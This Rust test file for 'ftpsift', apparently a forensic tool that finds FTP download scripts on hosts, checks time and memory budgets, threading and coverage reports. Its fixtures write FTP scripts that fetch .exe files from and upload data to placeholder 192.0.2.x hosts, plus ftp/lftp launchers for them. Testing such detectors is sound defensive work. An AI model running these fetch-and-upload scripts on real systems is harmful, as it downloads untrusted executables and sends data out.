//! A run that must end early: what it has is a report, and what it has not is told.

use super::host;
use crate::support::{program, scan_json, timeless};
use ftpsift::base::anomaly::{Anomaly, Cause, Stage};
use ftpsift::base::limits::Limits;
use ftpsift::case::Case;
use ftpsift::evidence::entry::{Entry, EntryPath};
use ftpsift::evidence::filesystem::host::Host;
use ftpsift::evidence::{FileSystem, Opened, Walked};
use ftpsift::scan;
use ftpsift::scan::bounds::{Bounds, Budget, MemoryCap};
use ftpsift::scan::progress::Progress;
use ftpsift::scan::request::{Live, ScanRequest};
use serde_json::Value;
use std::collections::BTreeSet;
use std::ops::ControlFlow;
use std::path::Path;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

fn triage(root: &Path, more: &[&str]) -> (Option<i32>, Value) {
    let out = program().arg("triage").arg(root).args(["--format", "json"]).args(more).output().unwrap();
    (out.status.code(), serde_json::from_slice(&out.stdout).unwrap())
}

fn within(root: &Path, threads: usize, bounds: Bounds) -> Case {
    let live = Some(Live::default());
    let request = ScanRequest { paths: vec![root.to_owned()], threads, live, ..ScanRequest::default() };
    scan::run(&request, &Progress::within(bounds)).unwrap()
}

/// A clock that goes on by a second whenever it is looked at.
fn ticking(allowed: u64) -> Bounds {
    let ticks = AtomicU64::new(0);
    let clock = move || Duration::from_secs(ticks.fetch_add(1, Ordering::Relaxed));
    Bounds { time: Some(Budget::by(Duration::from_secs(allowed), clock)), ..Bounds::default() }
}

#[test]
fn no_time_at_all_is_a_report_of_nothing() {
    let root = tempfile::tempdir().unwrap();
    host(root.path(), 3);
    for threads in ["1", "4"] {
        let (code, report) = triage(root.path(), &["--time-budget", "0s", "--threads", threads]);
        assert_eq!(code, Some(3));
        assert_eq!((&report["scan"]["complete"], &report["scripts"]), (&false.into(), &Value::Array(Vec::new())));
        let unread = &report["scan"]["unread"];
        assert_eq!(unread["why"], "time-budget");
        assert_eq!(unread["places"][0], root.path().to_str().unwrap());
    }
    let (code, report) = scan_json(root.path(), &["--time-budget", "0s"]);
    assert_eq!((code, &report["scan"]["unread"]["why"]), (Some(3), &"time-budget".into()));
}

#[test]
fn out_of_time_is_told_whatever_was_found() {
    let root = tempfile::tempdir().unwrap();
    host(root.path(), 200);
    let whole = within(root.path(), 1, Bounds::default());
    assert!(whole.scan.complete && whole.scan.unread.is_none());
    let (mut found, mut before) = (0, 0);
    for allowed in [1, 8, 20, 60, 200, 450, 100_000] {
        let case = within(root.path(), 1, ticking(allowed));
        assert_eq!(case.scan.complete, case.scan.unread.is_none(), "{allowed}");
        assert!(case.scan.counts.files >= before && case.scripts.len() >= found, "{allowed}");
        (before, found) = (case.scan.counts.files, case.scripts.len());
        let Some(unread) = &case.scan.unread else { continue };
        assert_eq!(unread.why, "time-budget");
        assert!(unread.files + unread.folders > 0 && !unread.places.is_empty(), "{allowed}: {unread:?}");
        assert!(case.errors.iter().any(|error| error.message.starts_with("out of time")), "{allowed}");
    }
    assert_eq!((found, before), (whole.scripts.len(), whole.scan.counts.files));
}

#[test]
fn plausible_places_are_read_before_the_rest() {
    let root = tempfile::tempdir().unwrap();
    host(root.path(), 50);
    // `Apps` would come first by its name.
    let mut growing = (1..100).map(|allowed| within(root.path(), 1, ticking(allowed)));
    let case =
        growing.find(|case| !case.scripts.is_empty()).expect("in a hundred looks at the clock something is read");
    let paths: Vec<&str> = case.scripts.iter().map(|script| script.path.as_str()).collect();
    assert!(paths.len() == 1 && paths[0].ends_with("z.txt"), "{paths:?}");
}

#[test]
fn a_triage_that_is_not_cut_short_reports_what_a_scan_does() {
    let root = tempfile::tempdir().unwrap();
    host(root.path(), 120);
    let (_, scanned) = scan_json(root.path(), &[]);
    let scanned = timeless(scanned);
    for threads in ["1", "4"] {
        let (code, mut report) = triage(root.path(), &["--threads", threads]);
        assert_eq!(code, Some(1));
        assert!(report["scan"].as_object_mut().unwrap().remove("host").is_some());
        for counted in ["files", "directories", "bytes_read", "scripts", "payloads", "errors"] {
            let counts = |report: &Value| report["scan"]["counts"][counted].clone();
            assert_eq!(counts(&report), counts(&scanned), "{threads}: {counted}");
        }
        let rules = |report: &Value| -> BTreeSet<String> {
            let findings = report["findings"].as_array().unwrap().iter();
            findings.filter_map(|finding| finding["rule"].as_str().map(str::to_owned)).collect()
        };
        // It has the names of the host, which on Windows has drives; which folders everybody may write to they tell as well.
        if cfg!(unix) {
            assert_eq!(rules(&report), rules(&scanned));
            let place = root.path().canonicalize().unwrap().display().to_string();
            let lead = format!("{}/", place.trim_start_matches('/'));
            let plain = |report: &Value| {
                let mut report: Value = serde_json::from_str(&report.to_string().replace(&lead, "")).unwrap();
                report["scan"]["counts"].as_object_mut().unwrap().remove("findings");
                report.as_object_mut().unwrap().remove("findings");
                report
            };
            assert_eq!(plain(&timeless(report)), plain(&scanned), "{threads}");
        }
    }
}

/// A folder of the host is not its root: what a batch file says of the place of a script is found all the same.
#[test]
fn a_folder_that_is_named_keeps_its_place_on_the_host() {
    let root = tempfile::tempdir().unwrap();
    host(root.path(), 0);
    let folder = root.path().canonicalize().unwrap().join("w");
    std::fs::create_dir(&folder).unwrap();
    let script = folder.join("a.txt").display().to_string().replace(r"\\?\", "");
    std::fs::write(folder.join("a.txt"), "open 192.0.2.7\nuser w pw\nget w.exe\nbye\n").unwrap();
    let (name, launch) = match cfg!(windows) {
        true => ("r.bat", format!("ftp -n -s:{script}\r\n")),
        false => ("r.sh", format!("#!/bin/sh\nlftp -f {script}\n")),
    };
    std::fs::write(folder.join(name), launch).unwrap();
    for named in [folder.clone(), root.path().to_owned()] {
        let (_, report) = triage(&named, &[]);
        let launches = report["launches"].as_array().unwrap();
        let ours = launches.iter().find(|launch| launch["script_path"] == *script).expect("it is found");
        assert_eq!(ours["scripts"].as_array().unwrap().len(), 1, "{ours}");
        let paths: Vec<&str> =
            report["scripts"].as_array().unwrap().iter().filter_map(|script| script["path"].as_str()).collect();
        assert!(paths.contains(&script.trim_start_matches('/')), "{paths:?}");
        let findings = report["findings"].as_array().unwrap();
        assert!(findings.iter().all(|finding| finding["rule"] != "launch.script-gone"), "{findings:?}");
    }
}

/// A host of which the system does not give out a file.
struct InUse(Host);

impl FileSystem for InUse {
    fn walk(&self, limits: &Limits, visit: &mut dyn FnMut(Walked) -> ControlFlow<()>) {
        self.0.walk(limits, visit);
    }

    fn open(&self, path: &EntryPath) -> Result<Opened, Anomaly> {
        self.0.open(path)
    }

    fn list(&self, directory: &EntryPath) -> Vec<Entry> {
        self.0.list(directory)
    }

    fn read_from_volume(&self) -> Vec<EntryPath> {
        vec![EntryPath::new("Windows/Temp/z.exe")]
    }
}

#[test]
fn the_report_says_which_files_were_read_from_the_volume() {
    let root = tempfile::tempdir().unwrap();
    host(root.path(), 0);
    let of = |file_system| scan::run_over(file_system, "host", &ScanRequest::default(), &Progress::default());
    let shared = || Host::open(root.path(), &Limits::default()).unwrap();
    let told = of(Box::new(std::sync::Arc::new(InUse(shared()))));
    assert_eq!(told.evidence[0].read_from_volume, ["Windows/Temp/z.exe"]);
    let plain = of(Box::new(shared()));
    assert!(serde_json::to_value(&plain).unwrap()["evidence"][0].get("read_from_volume").is_none());
}

/// A host with a file that is kept online.
struct Online(Host);

impl FileSystem for Online {
    fn walk(&self, limits: &Limits, visit: &mut dyn FnMut(Walked) -> ControlFlow<()>) {
        let cause = Cause::Elsewhere("120 files here: kept online".to_owned());
        if visit(Walked::Anomaly(Anomaly::new(Stage::Walk, "Windows/Temp", cause))).is_continue() {
            self.0.walk(limits, visit);
        }
    }

    fn open(&self, path: &EntryPath) -> Result<Opened, Anomaly> {
        if path.as_bytes().ends_with(b".exe") {
            let cause = Cause::Elsewhere("kept online".to_owned());
            return Err(Anomaly::new(Stage::Read, path.display(), cause));
        }
        self.0.open(path)
    }

    fn list(&self, directory: &EntryPath) -> Vec<Entry> {
        self.0.list(directory)
    }
}

#[test]
fn what_is_kept_online_leaves_a_run_complete() {
    let root = tempfile::tempdir().unwrap();
    host(root.path(), 0);
    std::fs::write(root.path().join("Windows/Temp/other.exe"), "MZ").unwrap();
    let online = Box::new(Online(Host::open(root.path(), &Limits::default()).unwrap()));
    let case = scan::run_over(online, "host", &ScanRequest::default(), &Progress::default());
    assert!(case.scan.complete, "{:?}", case.errors);
    // Once for its folder, and once as what a script had fetched.
    let told: Vec<(&str, Stage)> = case.errors.iter().map(|error| (error.path.as_str(), error.stage)).collect();
    assert_eq!(told, [("Windows/Temp", Stage::Walk), ("Windows/Temp/z.exe", Stage::Read)]);
}

#[test]
fn the_report_says_which_host_it_is_of() {
    let root = tempfile::tempdir().unwrap();
    host(root.path(), 1);
    let (_, report) = triage(root.path(), &[]);
    let host = &report["scan"]["host"];
    assert!(host["clock"].as_str().unwrap().ends_with('Z'));
    if cfg!(target_os = "linux") {
        let name = std::fs::read_to_string("/proc/sys/kernel/hostname").unwrap();
        assert_eq!(host["name"], name.trim());
    }
    if cfg!(any(target_os = "linux", windows)) {
        for fact in ["name", "os", "os_version", "booted"] {
            assert!(host[fact].is_string(), "{fact}: {host}");
        }
    }
    assert_eq!(host.get("backup_privilege").is_some(), cfg!(windows), "{host}");
    let (_, report) = scan_json(root.path(), &[]);
    assert!(report["scan"].get("host").is_none());
    let text = program().arg("triage").arg(root.path()).output().unwrap().stdout;
    assert!(String::from_utf8(text).unwrap().contains("\nhost "));
}

#[test]
fn near_its_memory_a_run_ends_with_what_it_has() {
    let root = tempfile::tempdir().unwrap();
    host(root.path(), 100);
    let bounds = Bounds { memory: Some(MemoryCap::by(800, || Some(750))), ..Bounds::default() };
    let case = within(root.path(), 1, bounds);
    assert_eq!(case.scan.unread.unwrap().why, "max-memory");
    let (code, report) = triage(root.path(), &["--max-memory", "512M"]);
    assert_eq!((code, &report["scan"]["complete"]), (Some(1), &true.into()));
}

/// What the scripts became when they were run and judged was more than was left: the run ended in its allocator.
#[test]
#[cfg(target_os = "linux")]
fn memory_is_kept_for_what_becomes_of_the_scripts() {
    let root = tempfile::tempdir().unwrap();
    for number in 0..1500 {
        let folder = root.path().join(format!("d{:02}", number % 50));
        std::fs::create_dir_all(&folder).unwrap();
        let script = format!("open 192.0.2.1\nuser bob pw\nbinary\nget file{number}.exe\nput data{number}.txt\nbye\n");
        std::fs::write(folder.join(format!("f{number}.txt")), script).unwrap();
    }
    let mut before = 0;
    for memory in ["16M", "20M", "24M"] {
        let bounded = ["--max-memory", memory, "--format", "json"];
        let out = program().arg("triage").arg(root.path()).args(bounded).output().unwrap();
        assert_eq!(out.status.code(), Some(3), "{memory}: {}", String::from_utf8_lossy(&out.stderr));
        let report: Value = serde_json::from_slice(&out.stdout).unwrap();
        let found = report["scripts"].as_array().unwrap().len();
        assert_eq!(report["scan"]["unread"]["why"], "max-memory", "{memory}");
        assert!(found > before && found < 1500, "{memory}: {found}");
        before = found;
    }
}

#[test]
fn bounds_that_mean_nothing_are_refused() {
    let root = tempfile::tempdir().unwrap();
    for wrong in [["--time-budget", "soon"], ["--max-memory", "0"], ["--max-cpu", "0"], ["--max-cpu", "101"]] {
        let out = program().arg("triage").arg(root.path()).args(wrong).output().unwrap();
        assert_eq!((out.status.code(), out.stdout.len()), (Some(2), 0), "{wrong:?}");
    }
}

/// With less than it needs the program was ended by its allocator, without a report.
#[test]
fn memory_in_which_no_run_can_be_made_is_refused() {
    let root = tempfile::tempdir().unwrap();
    host(root.path(), 3);
    for too_little in ["1M", "2M", "16383K"] {
        let out = program().arg("triage").arg(root.path()).args(["--max-memory", too_little]).output().unwrap();
        assert_eq!((out.status.code(), out.stdout.len()), (Some(2), 0), "{too_little}");
        assert!(String::from_utf8_lossy(&out.stderr).contains("a run needs 16M at least"), "{too_little}");
    }
}

/// Stacks of more threads than there was room for ended the run in a panic.
#[test]
fn no_more_threads_are_started_than_memory_has_room_for() {
    let root = tempfile::tempdir().unwrap();
    host(root.path(), 100);
    let (_, whole) = triage(root.path(), &[]);
    for memory in ["16M", "32M"] {
        let bounded = ["--threads", "16", "--max-memory", memory, "--format", "json"];
        let out = program().arg("triage").arg(root.path()).args(bounded).output().unwrap();
        let code = out.status.code();
        assert!(matches!(code, Some(1 | 3)), "{memory}: {code:?} {}", String::from_utf8_lossy(&out.stderr));
        assert!(String::from_utf8_lossy(&out.stderr).contains("has room for no more"), "{memory}");
        let report: Value = serde_json::from_slice(&out.stdout).unwrap();
        assert!(code == Some(3) || report["scripts"] == whole["scripts"], "{memory}");
    }
}

/// A thread that the system refuses ended the run in a panic.
#[test]
#[cfg(target_os = "linux")]
fn without_threads_the_one_that_is_there_does_the_work() {
    let root = tempfile::tempdir().unwrap();
    host(root.path(), 100);
    let (_, whole) = scan_json(root.path(), &[]);
    // Stacks of four gigabytes where one may be had.
    let mut shell = std::process::Command::new("sh");
    shell.args(["-c", "ulimit -d 1048576 && exec \"$0\" scan \"$1\" --threads 4 --format json"]);
    shell.arg(program().get_program()).arg(root.path()).env("RUST_MIN_STACK", (4u64 << 30).to_string());
    let out = shell.output().unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(timeless(serde_json::from_slice(&out.stdout).unwrap()), timeless(whole));
}

/// The coverage said that every file was opened, whatever was left.
#[test]
fn the_coverage_claims_no_file_that_was_left_unread() {
    let root = tempfile::tempdir().unwrap();
    host(root.path(), 100);
    let files = |case: &Case| {
        let row = case.coverage.iter().find(|row| row.source == "files").unwrap();
        (row.examined, row.records.unwrap(), row.why.clone().unwrap())
    };
    let (examined, all, why) = files(&within(root.path(), 1, Bounds::default()));
    assert!(examined && why.starts_with("every regular file was opened;"), "{why}");
    for (threads, allowed) in [(1, 60), (4, 60), (1, 200), (4, 200)] {
        let case = within(root.path(), threads, ticking(allowed));
        let unread = case.scan.unread.as_ref().unwrap();
        let (examined, some, why) = files(&case);
        // Several threads may find that time is over before any of them has read a file.
        assert!(examined == (some > 0) && (examined || threads > 1), "{threads} {allowed}: {some}");
        assert!(some + unread.files <= all, "{threads} {allowed}: {some} of {all}, {unread:?}");
        assert!(why.starts_with("not every regular file was read: known and left (time-budget): "), "{why}");
        for (count, of) in [(unread.files, "file"), (unread.folders, "folder")] {
            assert_eq!(why.contains(&format!(" {count} {of}")), count > 0, "{threads} {allowed}: {why}, {unread:?}");
        }
    }
    let (_, report) = scan_json(root.path(), &["--limit", "files=5"]);
    let row = report["coverage"].as_array().unwrap().iter().find(|row| row["source"] == "files").unwrap();
    assert_eq!(
        row["why"],
        "not every regular file was read: only the first 5 files were looked at; binary files were not searched for scripts"
    );
}

#[test]
fn a_share_of_the_processor_changes_nothing_that_is_found() {
    let root = tempfile::tempdir().unwrap();
    host(root.path(), 60);
    let (_, whole) = triage(root.path(), &[]);
    let (code, slow) = triage(root.path(), &["--max-cpu", "60", "--full-speed"]);
    assert_eq!((code, &slow["scripts"]), (Some(1), &whole["scripts"]));
}
